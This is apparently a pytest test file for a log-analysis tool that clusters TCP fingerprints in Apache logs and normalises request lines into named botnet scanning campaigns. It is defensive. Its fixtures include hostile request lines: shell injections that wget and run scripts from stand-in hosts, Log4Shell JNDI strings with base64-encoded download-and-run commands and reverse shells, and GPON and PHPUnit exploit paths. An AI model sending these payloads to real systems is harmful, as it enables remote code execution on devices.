"""`report` as a library: the seed's lines cluster as the seed's README describes, request
lines normalise into campaign patterns, and the fast log reader agrees with LogFormat.parse.

The golden numbers were counted by hand from the 13 example lines of the
mod_tcpfingerprint README (tests/fixtures/seed_access.log); the heuristics
(labels, window-to-MSS relation) are checked on tables written here.
"""

from __future__ import annotations

import gzip
import random
import re
from pathlib import Path

import pandas as pd
import pytest

from hypothesis import example, given, settings
from hypothesis import strategies as st

from tcpfp_cli.campaigns import CampaignMatcher, _encoded_blobs, load_campaigns, normalise
from tcpfp_cli.logformat import compile_format, escape
from tcpfp_cli.logreader import LogReader, open_input, read_dataframe
from tcpfp_cli.report import ReportOptions, build_report, label_cluster, window_mss

SEED = Path(__file__).parent / "fixtures" / "seed_access.log"
SEED_FORMAT = ('%{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g '
               '%{FINGERPRINT_TCP_WSCALE}g %{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g "%r"')
W, S, M = "FINGERPRINT_TCP_WSIZE", "FINGERPRINT_TCP_WSCALE", "FINGERPRINT_TCP_MSS"


def seed_report(**kw):
    return build_report([str(SEED)], SEED_FORMAT, ReportOptions(campaigns=CampaignMatcher(load_campaigns()), **kw))


# --------------------------------------------------------------------------- golden: the seed


def test_seed_lines_are_two_named_campaigns():
    report = seed_report().to_json()
    assert report["summary"]["lines"] == report["summary"]["parsed"] == 13
    campaigns = {c["name"]: c for c in report["campaigns"]}
    assert set(campaigns) == {"Mozi", "Boaform"}
    assert campaigns["Mozi"]["requests"] == 4
    assert campaigns["Boaform"]["requests"] == 9
    assert campaigns["Mozi"]["pattern"] == "GET /board.cgi?cmd=<v> HTTP/1.0"
    assert campaigns["Boaform"]["pattern"] == "GET /boaform/admin/formLogin?username=<v>&psd=<v> HTTP/1.0"


# (window, scale, MSS) -> requests, counted from the README's lines.
SEED_CLUSTERS = {
    (28800, 4, 1406): 4, (28800, 5, 1406): 1, (29040, 5, 1452): 1, (29040, 5, 1400): 2,
    (5808, 1, 1452): 1, (5808, 2, 1452): 2, (5808, 5, 1452): 2,
}
SEED_WINDOW_MSS = {(28800, 1406): "20x1440", (29040, 1452): "20xMSS", (29040, 1400): "20x1452",
                   (5808, 1452): "4xMSS"}


def test_seed_fingerprint_clusters_counts_labels_and_window_relations():
    fps = seed_report().to_json()["fingerprints"]
    got = {(f[W], f[S], f[M]): f["requests"] for f in fps}
    assert got == SEED_CLUSTERS
    for f in fps:
        assert f["FINGERPRINT_ITTL"] == 64
        assert f["FINGERPRINT_TCP_OPTIONS"] == "2,4,8,1,3"
        assert f["label"] == "embedded/low-memory Linux"
        assert f["window_mss"] == SEED_WINDOW_MSS[(f[W], f[M])]
        # Median RTT above 1 s: an outlier. Only 29040/5/1400 (0.45 s and 0.56 s) stays under.
        assert f["rtt_outlier"] is ((f[W], f[M]) != (29040, 1400))
    big = next(f for f in fps if (f[W], f[S], f[M]) == (28800, 4, 1406))
    assert (big["ttl_min"], big["ttl_max"], big["hops_min"], big["hops_max"]) == (49, 50, 14, 15)
    # RTTs 2180970, 2629368, 2423828, 2260885: median is the mean of the middle two.
    assert big["rtt_median_us"] == round((2260885 + 2423828) / 2)


def test_seed_crosstab_and_cluster_ids_in_campaigns():
    report = seed_report().to_json()
    ct = report["crosstab"]
    by_id = {f["id"]: (f[W], f[S], f[M]) for f in report["fingerprints"]}
    mozi = ct["requests"][ct["campaigns"].index("Mozi")]
    mozi_clusters = {by_id[c]: n for c, n in zip(ct["fingerprints"], mozi) if n}
    assert mozi_clusters == {(28800, 4, 1406): 1, (29040, 5, 1452): 1, (29040, 5, 1400): 1, (5808, 1, 1452): 1}
    boaform = next(c for c in report["campaigns"] if c["name"] == "Boaform")
    assert {by_id[i] for i in boaform["fingerprints"]} == {
        (28800, 4, 1406), (28800, 5, 1406), (29040, 5, 1400), (5808, 2, 1452), (5808, 5, 1452)}


def test_min_count_top_and_by():
    report = seed_report(min_count=2).to_json()
    assert sorted(f["requests"] for f in report["fingerprints"]) == [2, 2, 2, 4]
    assert len(seed_report(top=1).to_json()["fingerprints"]) == 1
    by_mss = seed_report(by=["TCP_MSS"]).to_json()["fingerprints"]
    assert {f[M]: f["requests"] for f in by_mss} == {1406: 5, 1452: 6, 1400: 2}


# --------------------------------------------------------------------------- heuristics


@pytest.mark.parametrize("window, mss, expected", [
    (5808, 1452, "4xMSS"), (28800, 1406, "20x1440"), (29040, 1400, "20x1452"), (64240, 1460, "44xMSS"),
    (65535, 1460, "none"), (0, 1460, "none"), (None, None, "none"), (14000, None, "10x1400"),
    (27600, 1380, "20xMSS"), (27200, 1300, "20x1360"),
    # a clamp only lowers the MSS: a common MSS at or below the SYN's own is no explanation
    (28000, 1460, "none"), (28800, 1460, "none"), (14400, 1452, "none"),
])
def test_window_mss(window, mss, expected):
    assert window_mss(window, mss) == expected


@pytest.mark.parametrize("key, label", [
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3", S: 7, W: 64240}, "Linux-like"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3", S: 9, W: 65535}, "Linux-like"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3", S: 5, W: 29040}, "embedded/low-memory Linux"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3", S: 7, W: 5840}, "embedded/low-memory Linux"),
    ({"FINGERPRINT_ITTL": 128, "FINGERPRINT_TCP_OPTIONS": "2,1,3,1,1,4", S: 8, W: 64240}, "Windows-like"),
    ({"FINGERPRINT_ITTL": 128, "FINGERPRINT_TCP_OPTIONS": "2,1,3,4,8", S: 8, W: 8192}, "Windows-like"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,1,3,1,1,8,4,0,0", S: 6, W: 65535}, "Apple-like"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,1,3,1,1,8,4,0", S: 6, W: 65535}, "Apple-like"),
    ({"FINGERPRINT_ITTL": 128, "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3", S: 7, W: 64240}, "-"),
    ({"FINGERPRINT_ITTL": 64, "FINGERPRINT_TCP_OPTIONS": "2,1,3,1,1,4", S: 8, W: 64240}, "-"),
    ({"FINGERPRINT_ITTL": 255, "FINGERPRINT_TCP_OPTIONS": "2", S: None, W: 4128}, "-"),
    ({"FINGERPRINT_ITTL": None, "FINGERPRINT_TCP_OPTIONS": None, S: None, W: None}, "-"),
])
def test_labels(key, label):
    assert label_cluster(key) == label


# --------------------------------------------------------------------------- patterns


def test_each_seed_campaign_is_one_pattern_despite_values():
    lines = SEED.read_text().splitlines()
    requests = [line.split('"')[1] for line in lines]
    assert len({normalise(r) for r in requests[:4]}) == 1
    assert len({normalise(r) for r in requests[4:]}) == 1
    assert normalise(requests[0]) != normalise(requests[4])


JNDI = "GET /${{jndi:ldap://{}/Basic/Command/Base64/{}}} HTTP/1.1"
JNDI_ENCODED = "GET /%24%7Bjndi%3Aldap%3A%2F%2F{}%2FBasic%2FCommand%2FBase64%2F{}%7D HTTP/1.1"


@pytest.mark.parametrize("variants", [
    ["GET /shell?cd+/tmp;wget+http://1.2.3.4:8080/x.sh;sh+x.sh HTTP/1.1",
     "GET /shell?cd+/tmp;wget+http://203.0.113.77:41234/x.sh;sh+x.sh HTTP/1.1",
     "GET /shell?cd+/tmp;wget+http://[2001:db8::7]:80/x.sh;sh+x.sh HTTP/1.1"],
    ["GET /cgi-bin/luci/;stok=0f1e2d3c4b5a69788796a5b4c3d2e1f0/locale?form=country&code=$(wget+x) HTTP/1.1",
     "GET /cgi-bin/luci/;stok=abcdefabcdefabcdefabcdefabcdef12/locale?form=system&code=$(curl+y) HTTP/1.1"],
    ["POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"] * 2,
    ["POST /GponForm/diag_Form?images/ HTTP/1.1"] * 2,
    ["GET /download/a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6 HTTP/1.1",
     "GET /download/ffffffffffffffff0000000000000000 HTTP/1.1"],
    ["GET /t/Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdo HTTP/1.1", "GET /t/QUJDREVGR0hJSktMTU5PUFFSU1RVVjEy HTTP/1.1"],
    ["GET /item/17 HTTP/1.1", "GET /item/90210 HTTP/1.1"],
    # Log4Shell with a base64 command: its length (so its "=" padding) and its "+" follow the address
    [JNDI.format("192.0.2.7:1389", "d2dldCBodHRwOi8vMS4yLjMuNDo4MC94LnNoIC1PLXxzaA=="),
     JNDI.format("203.0.113.9:389", "d2dldCBodHRwOi8vMTAuMjAuMzAuNDA6ODA4MC94LnNoIC1PLXxzaA="),
     JNDI.format("198.51.100.1:80", "d2dldCBodHRwOi8vMTAuMjAuMzAuNDA6ODA4MDAveC5zaCAtTy18c2g"),
     JNDI.format("192.0.2.7:1389", "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ=="),
     JNDI.format("192.0.2.8:1389", "YmFzaCAtaSA+JiAvZGV2L3RjcC81LjYuNy44LzgwIDA+JjE=")],
    # the same percent-encoded: "+" is %2B, "=" is %3D
    [JNDI_ENCODED.format("192.0.2.7%3A1389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaQ%3D%3D"),
     JNDI_ENCODED.format("192.0.2.9%3A389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWo%3D"),
     JNDI_ENCODED.format("192.0.2.9%3A389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWpr")],
    [JNDI_ENCODED.format("192.0.2.7%3A1389", "YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQ0NCAwPiYx"),
     JNDI_ENCODED.format("192.0.2.9%3A389", "YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzgwIDA%2BJjE%3D")],
    # a host name that ends the URL with "}" or ";" rather than "/"
    ["GET /${jndi:ldap://c7k2m1.dnslog.cn} HTTP/1.1", "GET /${jndi:ldap://zz9a.oast.example} HTTP/1.1"],
    ["GET /cgi-bin/;wget+http://evil.example.net;sh+x HTTP/1.1", "GET /cgi-bin/;wget+http://b4d.example.org;sh+x HTTP/1.1"],
])
def test_varying_values_collapse(variants):
    assert len({normalise(v) for v in variants}) == 1


#: The definition of merging a percent-encoded base64 blob into one <tok>, as one regular
#: expression: clear, but quadratic on a crafted line (it tries every start again), so the
#: code scans once instead.  The two must agree.
ENCODED_BLOB_DEFINITION = re.compile(
    r"(?:(?:(?<=%[0-9A-Fa-f]{2})|(?<![0-9A-Za-z_%-]))[0-9A-Za-z_-]+%2[Bb])*<tok>"
    r"(?:%2[Bb][0-9A-Za-z_-]*)*(?:%3[Dd]){0,2}(?![0-9A-Za-z_])")
BLOB_PIECES = ["<tok>", "%2B", "%2b", "%3D", "%3d", "%41", "%2F", "a", "Z9", "-", "_", ".", "/", "%", "zz",
               "%z", "<n>", "x", "B", "2", "%2", "3D", "F", "%%"]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(BLOB_PIECES), min_size=1, max_size=16).map("".join))
@example("<tok>%3D-%2B<tok>")  # a word that starts right after an escape the last blob ended with
def test_encoded_blobs_are_merged_as_the_definition_says(text):
    assert _encoded_blobs(text) == ENCODED_BLOB_DEFINITION.sub("<tok>", text)


@pytest.mark.parametrize("variants", [
    # URL-encoded download address and port, outside any name=value
    ["GET /cgi-bin/;cd%20%2Ftmp%3Bwget%20http%3A%2F%2F1.2.3.4%3A8080%2Fb.sh HTTP/1.1",
     "GET /cgi-bin/;cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.77%3A52869%2Fb.sh HTTP/1.1"],
    ["GET /cgi-bin/;wget%20http%3A%2F%2Fevil.example.net%3A81%2Fb.sh HTTP/1.1",
     "GET /cgi-bin/;wget%20http%3A%2F%2Fcdn7.other.org%3A8080%2Fb.sh HTTP/1.1"],
    # an address right after an encoded space
    ["GET /cgi-bin/;tftp%20-g%20-r%20m%201.2.3.4;sh%20m HTTP/1.1",
     "GET /cgi-bin/;tftp%20-g%20-r%20m%20198.51.100.7;sh%20m HTTP/1.1"],
    # an empty value is a value
    ["GET /login.cgi?user=&pass= HTTP/1.1", "GET /login.cgi?user=admin&pass=admin HTTP/1.1"],
])
def test_encoded_and_empty_values_collapse(variants):
    assert len({normalise(v) for v in variants}) == 1


def test_different_paths_stay_different():
    paths = ["GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /favicon.ico HTTP/1.1", "GET /robots.txt HTTP/1.1",
             "GET /shell?cd+/tmp HTTP/1.1", "GET /board.cgi?cmd=x HTTP/1.0", "GET /v1/api HTTP/1.1",
             "GET /v2/api HTTP/1.1", "POST / HTTP/1.1", "GET / HTTP/1.0", "GET /x86_64/ HTTP/1.1"]
    patterns = [normalise(p) for p in paths]
    assert len(set(patterns)) == len(paths)
    assert patterns[:4] == ["GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /favicon.ico HTTP/1.1",
                            "GET /robots.txt HTTP/1.1"]


def test_junk_request_lines():
    assert normalise(None) == "<none>"
    assert normalise("") == "<empty>"
    assert normalise("\x16\x03\x01\x02\x00\x01") == "<tls>"
    assert normalise("\x00\x01junk") == "<binary>"


def test_campaign_names_and_user_file_first(tmp_path):
    shipped = CampaignMatcher(load_campaigns())
    assert shipped.name("POST /GponForm/diag_Form?images/ HTTP/1.1") is not None
    assert shipped.name("GET /index.html HTTP/1.1") is None
    assert shipped.name("GET /board.cgi?cmd=ls HTTP/1.0") is None  # board.cgi without Mozi's payload
    user = tmp_path / "mine.tsv"
    user.write_text("# mine\nMyScan\t^GET /boaform/\tour own name\n")
    matcher = CampaignMatcher(load_campaigns([user]))
    assert matcher.name("GET /boaform/admin/formLogin?username=a&psd=a HTTP/1.0") == "MyScan"
    assert matcher.descriptions["MyScan"] == "our own name"


def test_every_shipped_campaign_has_a_description():
    campaigns = load_campaigns()
    assert len(campaigns) >= 8
    assert all(c.description for c in campaigns)
    assert {"Mozi", "Boaform"} <= {c.name for c in campaigns}


# --------------------------------------------------------------------------- the reader


def test_typed_columns_and_missing_values(tmp_path):
    log = tmp_path / "a.log"
    log.write_text('1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 - "-" "UA x"\n')
    df, stats = read_dataframe([str(log)], "combined")
    assert str(df["status"].dtype) == "Int64" and str(df["bytes"].dtype) == "Int64"
    assert df["status"][0] == 200 and df["bytes"].isna()[0]
    assert df["header:referer"].isna()[0] and df["header:user-agent"][0] == "UA x"
    assert (stats.lines, stats.parsed, stats.malformed, stats.skipped) == (1, 1, 0, 0)


def _random_value(rng: random.Random) -> bytes:
    alphabet = b'ab /"\\x%-=?&;' + bytes([0, 9, 10, 13, 0x7f, 0x80, 0xe9, 0xff])
    return bytes(rng.choice(alphabet) for _ in range(rng.randrange(0, 12)))


def test_fast_reader_agrees_with_logformat_parse(tmp_path):
    """Hostile values written with Apache's escaping, plus damaged lines: the reader's rows
    are exactly LogFormat.parse's, and the lines it rejects are exactly those parse rejects."""
    fmt_text = '%h %>s "%r" %{FINGERPRINT_TCP_WSIZE}g "%{User-Agent}i" %b'
    fmt = compile_format(fmt_text)
    rng = random.Random(1)
    lines = []
    for n in range(3000):
        line = (f'{rng.choice(["10.0.0.1", "::1", "-"])} {rng.choice(["200", "404", "-"])} '
                f'"{escape(_random_value(rng))}" {rng.choice(["0", "64240", "-"])} '
                f'"{escape(_random_value(rng))}" {rng.choice(["17", "-"])}')
        roll = rng.random()
        if roll < 0.05:
            line = line[: rng.randrange(len(line))]  # truncated
        elif roll < 0.08:
            line = line + " extra"
        elif roll < 0.10:
            line = line.replace('"', "", 1)
        elif roll < 0.12:
            line = "  " + line.replace(" ", "  ")
        lines.append(line)
    log = tmp_path / "fuzz.log"
    log.write_bytes(("\n".join(lines) + "\n").encode("latin-1"))
    expected = []
    bad = []
    for number, line in enumerate(lines, 1):
        try:
            expected.append((number, fmt.parse(line)))
        except Exception:
            bad.append(number) if line.strip() else None
    for workers, chunk in ((1, 1 << 20), (2, 4096)):
        reader = LogReader(fmt, chunk_bytes=chunk, workers=workers)
        with open(log, "rb") as stream:
            frames = list(reader.frames(stream, "fuzz"))
        df = pd.concat(frames, ignore_index=True)
        assert df["line"].tolist() == [n for n, _ in expected]
        for column in fmt.columns:
            got = [None if pd.isna(v) else (str(int(v)) if column in ("status", "bytes", "FINGERPRINT_TCP_WSIZE")
                                              else v) for v in df[column].astype(object)]
            assert got == [r[column] for _, r in expected], column
        assert reader.stats.malformed == len(bad)
        assert reader.stats.parsed + reader.stats.malformed + reader.stats.skipped == reader.stats.lines
        assert [m.line for m in reader.stats.examples] == bad[:10]


def test_gzip_and_line_numbers_across_blocks(tmp_path):
    lines = [f'{n} 64 5808 2 2,4,8,1,3 1452 "GET /{n % 7} HTTP/1.0"' for n in range(2000)]
    lines[1500] = "garbage"
    lines[10] = ""
    path = tmp_path / "seed.log.gz"
    path.write_bytes(gzip.compress(("\n".join(lines) + "\n").encode()))
    reader = LogReader(compile_format(SEED_FORMAT), chunk_bytes=5000)
    stream, label, _ = open_input(str(path))
    df = pd.concat(list(reader.frames(stream, label)), ignore_index=True)
    assert (reader.stats.lines, reader.stats.parsed, reader.stats.malformed, reader.stats.skipped) == (2000, 1998, 1, 1)
    assert reader.stats.examples[0].line == 1501
    assert df["FINGERPRINT_TCP_RTT"].tolist() == [n for n in range(2000) if n not in (10, 1500)]
    assert df["line"].tolist() == [n + 1 for n in range(2000) if n not in (10, 1500)]


def test_tables_show_the_first_ten_malformed_lines(tmp_path):
    log = tmp_path / "a.log"
    log.write_text(SEED.read_text() + "".join(f"garbage {n}\n" for n in range(12)))
    report = build_report([str(log)], SEED_FORMAT, ReportOptions())
    line = next(x for x in report.tables().splitlines() if x.startswith("malformed: "))
    assert line.count("garbage") == 0 and line.count(str(log)) == 10


def test_remembered_classifications_are_bounded_in_characters_too(monkeypatch):
    """Clients choose their request lines: however long the distinct lines of a log, the
    classifications a worker remembers stay within MAX_CLASS_CHARS, and are the same
    whether remembered or worked out again."""
    from tcpfp_cli import report

    monkeypatch.setattr(report, "MAX_CLASS_CHARS", 100_000)
    classifier = report._Classifier(CampaignMatcher(load_campaigns()))
    lines = [f"GET /{k:05d}/{'z' * 8000} HTTP/1.1" for k in range(60)]
    first = [classifier.of(line) for line in lines]
    assert classifier.chars <= 100_000 and len(classifier.known) < 60
    assert classifier.chars == sum(len(r) + len(p) for r, (_, p) in classifier.known.items())
    assert [classifier.of(line) for line in lines] == first
    assert first[0] == (("pattern", "GET /<n>/" + "z" * 8000 + " HTTP/1.1"), "GET /<n>/" + "z" * 8000 + " HTTP/1.1")


def test_long_paths_and_queries_are_not_kept_by_the_pattern_caches():
    from tcpfp_cli import campaigns

    campaigns._path_kept.cache_clear()
    campaigns._shape_kept.cache_clear()
    long_path = "/" + "g" * campaigns.KEPT_TEXT_CHARS
    long_query = "x=1&" + "y" * campaigns.KEPT_TEXT_CHARS
    assert normalise(f"GET {long_path}?{long_query} HTTP/1.1") == f"GET {long_path}?x=<v>&{'y' * 512} HTTP/1.1"
    assert campaigns._path_kept.cache_info().currsize == 0
    assert campaigns._shape_kept.cache_info().currsize == 0
    assert normalise("GET /short?a=1 HTTP/1.1") == "GET /short?a=<v> HTTP/1.1"
    assert campaigns._path_kept.cache_info().currsize == 1
    assert campaigns._shape_kept.cache_info().currsize == 1
